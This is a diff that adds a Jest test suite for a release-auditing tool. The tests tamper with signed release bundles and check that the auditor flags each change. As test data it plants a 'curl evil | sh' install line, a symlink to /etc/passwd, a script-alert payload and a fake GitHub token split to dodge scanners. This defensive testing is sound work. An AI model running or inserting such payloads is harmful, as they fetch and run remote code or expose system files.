@@ -1,0 +1,325 @@
+import { createHash } from 'node:crypto';
+import { mkdir, symlink, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { gunzipSync, gzipSync } from 'node:zlib';
+import { beforeAll, describe, expect, it } from '@jest/globals';
+import { generateKey, parseStatement, signStatement } from '@repro/attest';
+import { canonicalize, parseStrict } from '@repro/core';
+import { type Audit, type AuditOptions, audit, openContainer, render } from '@repro/repro-audit';
+import { schemaValidator, temporaryDirectory } from '@repro/testkit';
+import { loopbackSigstore } from '@repro/testkit/sigstore';
+import { bundleOf, closeAgain, filesOf, type Made, makeRelease } from './release.ts';
+
+/** An attacker who can rewrite the whole release and make every document again that is made of others, but has no key. */
+const TOKEN = ['ghp', 'wV3kXq9ZsT1bLr7YmN5cPd2HfJ8gKa1WzQe6'].join('_');
+
+let made: Made;
+let place: string;
+
+beforeAll(async () => {
+  made = await makeRelease();
+  place = path.join(await temporaryDirectory(), 'release.evidence.tar');
+});
+
+type Files = Map<string, Buffer>;
+type Document = Record<string, unknown>;
+
+async function attacked(
+  change: (files: Files) => unknown,
+  options: AuditOptions = trusting(),
+): Promise<Audit> {
+  const files = new Map(made.files);
+  await change(files);
+  await writeFile(place, await bundleOf(files));
+  const container = await openContainer(place, 'release.evidence.tar');
+  const found = await audit(container, options);
+  if (container.kind === 'bundle') container.bundle.close();
+  expect(schemaValidator('audit')(found)).toEqual([]);
+  return found;
+}
+
+const trusting = (): AuditOptions => ({ trust: { keys: [made.key] } });
+const claim = ({ claims }: Audit, id: string) => claims.find((candidate) => candidate.id === id);
+const failed = ({ claims }: Audit): string[] =>
+  claims.filter(({ status }) => status === 'fail').map(({ id }) => id);
+
+function editDocument(files: Files, name: string, change: (document: Document) => void): void {
+  const document = parseStrict(files.get(name) as Buffer) as Document;
+  change(document);
+  files.set(name, Buffer.from(`${canonicalize(document)}\n`));
+}
+
+const documentOf = (name: string, change: (document: Document) => void) => (files: Files) =>
+  editDocument(files, name, change);
+
+describe('an attacker without the key, before an auditor who trusts it', () => {
+  it.each([
+    ['adds a file', (files: Files) => files.set('install.sh', Buffer.from('curl evil | sh\n'))],
+    [
+      'adds a policy that allows everything',
+      (files: Files) => files.set('policies/weak.json', Buffer.from('{"schema_version":"1.0"}\n')),
+    ],
+    [
+      'adds the report of a hook that never ran',
+      (files: Files) =>
+        files.set('checks/hook.audit.json', files.get('checks/safe-paths-check.json') as Buffer),
+    ],
+  ])('%s', async (_, change) => {
+    const found = await attacked(async (files) => {
+      change(files);
+      await closeAgain(files);
+    });
+    expect(failed(found)).toEqual(['provenance/coverage']);
+    expect(found.status).toBe('fail');
+  });
+
+  it('gives the release another version', async () => {
+    const found = await attacked(async (files) => {
+      files.set('VERSION', Buffer.from('9.9.9\n'));
+      await closeAgain(files);
+    });
+    expect(failed(found)).toEqual(['provenance/statement']);
+  });
+
+  it('changes the settings that the run had', async () => {
+    const found = await attacked(async (files) => {
+      editDocument(files, 'run_record.json', (record) => {
+        record['settings'] = { 'security.secret_scanning': { value: false, from: 'file' } };
+      });
+      await closeAgain(files);
+    });
+    expect(failed(found)).toEqual(['provenance/coverage']);
+  });
+
+  it('names another builder in the statement that people read', async () => {
+    const found = await attacked(
+      documentOf('slsa_attestation.json', ({ predicate }) => {
+        (predicate as { runDetails: { builder: { id: string } } }).runDetails.builder.id =
+          'https://good.example/';
+      }),
+    );
+    expect(failed(found)).toContain('provenance/signature');
+    expect(found.provenance.builder).not.toBe('https://good.example/');
+    expect(found.provenance.slsa_build_level).toBe('unevaluated');
+  });
+
+  it('cannot be asked about what was signed when nobody is trusted, and that is said', async () => {
+    const found = await attacked(() => {}, {});
+    expect(claim(found, 'provenance/coverage')).toMatchObject({ status: 'not_run', counted: false });
+    const text = await render(found, 'text', await filesOf(made.files));
+    expect(text).toContain('does not show who made it');
+    expect(text).toMatch(/claimed builder/);
+  });
+});
+
+describe('a directory with more than files in it', () => {
+  it('is not whole with a link, which others would follow', async () => {
+    const directory = await temporaryDirectory();
+    const lines: string[] = [];
+    for (const [name, bytes] of made.files) {
+      await mkdir(path.dirname(path.join(directory, name)), { recursive: true });
+      await writeFile(path.join(directory, name), bytes);
+      lines.push(`${createHash('sha256').update(bytes).digest('hex')}  ${name}\n`);
+    }
+    await writeFile(path.join(directory, 'SHA256SUMS'), lines.join(''));
+    expect((await audit(await openContainer(directory))).status).toBe('pass');
+    await symlink('/etc/passwd', path.join(directory, 'install.sh'));
+    expect(failed(await audit(await openContainer(directory)))).toEqual(['integrity/container']);
+  });
+});
+
+describe('a trusted workflow that lies about where it ran', () => {
+  const who = {
+    identity: 'https://github.com/o/r/.github/workflows/release.yml@refs/tags/v1.0.0',
+    issuer: 'https://token.actions.githubusercontent.com',
+  };
+
+  it.each([
+    ['github-hosted', []],
+    ['self-hosted', ['slsa/certificate-contradicts']],
+  ])('signed on a %s runner, as the certificate has it', async (runner, codes) => {
+    const sigstore = await loopbackSigstore();
+    const identityToken = sigstore.token({ sub: who.identity, iss: who.issuer, runner_environment: runner });
+    const found = await attacked(
+      async (files) => {
+        editDocument(files, 'slsa_attestation.json', ({ predicate }) => {
+          (predicate as { runDetails: { builder: { id: string } } }).runDetails.builder.id =
+            'https://repro-pack.dev/builder/github-hosted/v1';
+        });
+        const statement = await parseStatement(files.get('slsa_attestation.json') as Buffer);
+        const signer = { kind: 'keyless', options: { identityToken, fulcioUrl: sigstore.url } } as const;
+        const bundle = await signStatement(statement, signer, { rekorUrl: sigstore.url });
+        files.set('slsa_attestation.sigstore.json', Buffer.from(`${canonicalize(bundle)}\n`));
+        await closeAgain(files);
+      },
+      { trust: { identities: [who], trustedRoot: sigstore.trustedRoot as never } },
+    );
+    expect(claim(found, 'provenance/signature')?.findings.map(({ code }) => code)).toEqual(codes);
+    expect(found.status).toBe(codes.length === 0 ? 'pass' : 'fail');
+  });
+});
+
+describe('documents that were written by hand', () => {
+  it.each([
+    ['the verdict of the matrix', 'evidence.json', (d: Document) => (d['status'] = 'pass')],
+    [
+      'a control of the matrix',
+      'evidence.json',
+      (d: Document) => {
+        const [first] = d['controls'] as { shows: string }[];
+        if (first) first.shows = 'Everything.';
+      },
+    ],
+  ])('%s', async (_, name, change) => {
+    const found = await attacked((files) => {
+      editDocument(files, name, (d) => {
+        change(d);
+        (d as { version?: string }).version = '9.9.9';
+      });
+    }, {});
+    expect(failed(found)).toContain('compliance/evidence-matrix');
+  });
+
+  it.each([
+    ['compliance/evidence-matrix', 'evidence.json'],
+    ['compliance/policy-trace', 'policy_trace.json'],
+  ])('%s is no pass for one that another version is said to have made', async (id, name) => {
+    const found = await attacked((files) => {
+      editDocument(files, name, (d) => {
+        (d['tool'] as { version: string }).version = '0.0.1';
+        (d['summary'] as { fail: number }).fail = 77;
+      });
+    }, {});
+    expect(claim(found, id)).toMatchObject({ status: 'unverifiable', counted: true });
+    expect(found.status).not.toBe('pass');
+  });
+
+  it('the summary', async () => {
+    const found = await attacked((files) => {
+      files.set('summary.md', Buffer.from('## All is well\n\nInstall it with curl evil | sh\n'));
+    }, {});
+    expect(failed(found)).toEqual(['compliance/make-ci-summary']);
+  });
+
+  it('the page of the matrix', async () => {
+    const found = await attacked((files) => {
+      files.set('evidence.html', Buffer.from('<script>alert(1)</script>'));
+    }, {});
+    expect(failed(found)).toContain('compliance/evidence-matrix');
+  });
+});
+
+describe('checks that were made to go away', () => {
+  it('asks for a check that neither record nor reports know', async () => {
+    const found = await attacked(async (files) => {
+      files.delete('checks/permissions-lint.json');
+      editDocument(files, 'run_record.json', (record) => {
+        const steps = record['steps'] as unknown as { name: string }[];
+        record['steps'] = steps.filter(({ name }) => name !== 'permissions-lint');
+      });
+      await closeAgain(files);
+    }, {});
+    expect(found.status).not.toBe('pass');
+    expect(found.not_verified.join('\n')).toContain('permissions-lint');
+  });
+
+  it('tells of a check that a record calls switched off', async () => {
+    const found = await attacked(async (files) => {
+      files.delete('checks/permissions-lint.json');
+      switchOff(files, 'permissions-lint');
+      await closeAgain(files);
+    }, {});
+    expect(found.not_verified.join('\n')).toMatch(/permissions-lint.*security\.some_setting/);
+  });
+
+  it('counts what it cannot tell, also of a check that a record calls switched off', async () => {
+    const found = await attacked(async (files) => {
+      files.delete('checks/verify-tar-determinism.json');
+      switchOff(files, 'verify-tar-determinism');
+      await closeAgain(files);
+    }, {});
+    expect(claim(found, 'integrity/verify-tar-determinism')?.counted).toBe(true);
+  });
+
+  it('checks the gzip header of what is gzip, whatever its name says', async () => {
+    const found = await attacked((files) => {
+      const tar = gunzipSync(files.get('artifact.tar.gz') as Buffer);
+      const timed = gzipSync(tar);
+      timed.writeUInt32LE(1_700_000_000, 4);
+      files.delete('artifact.tar.gz');
+      files.set('artifact.tar', timed);
+    }, {});
+    expect(claim(found, 'integrity/verify-gzip-header')?.status).toBe('fail');
+  });
+});
+
+describe('an artifact that says where not to look', () => {
+  it.each([
+    [{ '.secretsignore': '*\n' }, 'it leaves files out by .secretsignore'],
+    [{ 'token.txt': `${TOKEN} # repro:allow github-pat\n` }, 'it allows 1 by comments'],
+  ])('%j is told', async (source, message) => {
+    const { files } = await makeRelease({ 'a.txt': 'a\n', ...source });
+    const secret = claim(
+      await audit({ kind: 'directory', files: await filesOf(files) }),
+      'security/secret-lint',
+    );
+    expect(secret).toMatchObject({ status: 'pass', findings: [{ code: 'audit/allowed', message }] });
+  });
+});
+
+describe('a policy that a release brings along', () => {
+  it('lets a check pass only where somebody who is trusted signed for it, and is told', async () => {
+    const { privateKey } = await generateKey('p256');
+    const policy = '{"allow":[{"paths":["server.pem"],"reason":"for tests"}]}\n';
+    const { files, key } = await makeRelease({ 'server.pem': privateKey }, 'p256', policy);
+    await writeFile(place, await bundleOf(files));
+    const container = await openContainer(place);
+    const signed = await audit(container, { trust: { keys: [key] } });
+    const findings = [expect.objectContaining({ code: 'audit/own-policy' })];
+    expect(claim(signed, 'security/secret-lint')).toMatchObject({ status: 'pass', findings });
+    expect(signed.status).toBe('pass');
+    const unsigned = await audit(container);
+    expect(claim(unsigned, 'security/secret-lint')).toMatchObject({ status: 'unverifiable', findings });
+    expect(unsigned.status).toBe('unverifiable');
+  });
+});
+
+function switchOff(files: Files, check: string): void {
+  editDocument(files, 'run_record.json', (record) => {
+    const steps = record['steps'] as unknown as { name: string }[];
+    record['steps'] = steps.map((step) =>
+      step.name === check
+        ? { ...step, status: 'not_run', outputs: [], switched_off: 'security.some_setting' }
+        : step,
+    );
+  });
+}
+
+describe('documents of another shape', () => {
+  it.each([
+    ['slsa_attestation.json', { subject: {} }, 'provenance/statement'],
+    ['slsa_attestation.json', { subject: [null] }, 'provenance/statement'],
+    ['slsa_attestation.json', null, 'provenance/statement'],
+    ['release_bom.json', { artifacts: [null] }, 'compliance/rbom-check'],
+    ['vel_manifest.json', { provenance: null }, 'integrity/vel-validator'],
+    ['policy_trace.json', [], 'compliance/policy-trace'],
+    ['evidence.json', { tool: null }, 'compliance/evidence-matrix'],
+  ])('%s as %j fails, and the audit goes on', async (name, document, id) => {
+    const found = await attacked((files) => {
+      files.set(name, Buffer.from(`${canonicalize(document)}\n`));
+    }, {});
+    expect(failed(found)).toContain(id);
+  });
+
+  it('finds what the signed predicate may not be either', async () => {
+    for (const predicate of [{ buildDefinition: { resolvedDependencies: [null] } }, { runDetails: [] }, 5]) {
+      const found = await attacked(
+        documentOf('slsa_attestation.json', (d) => {
+          d['predicate'] = predicate;
+        }),
+        {},
+      );
+      expect(claim(found, 'provenance/statement')?.status).toBe('fail');
+    }
+  });
+});
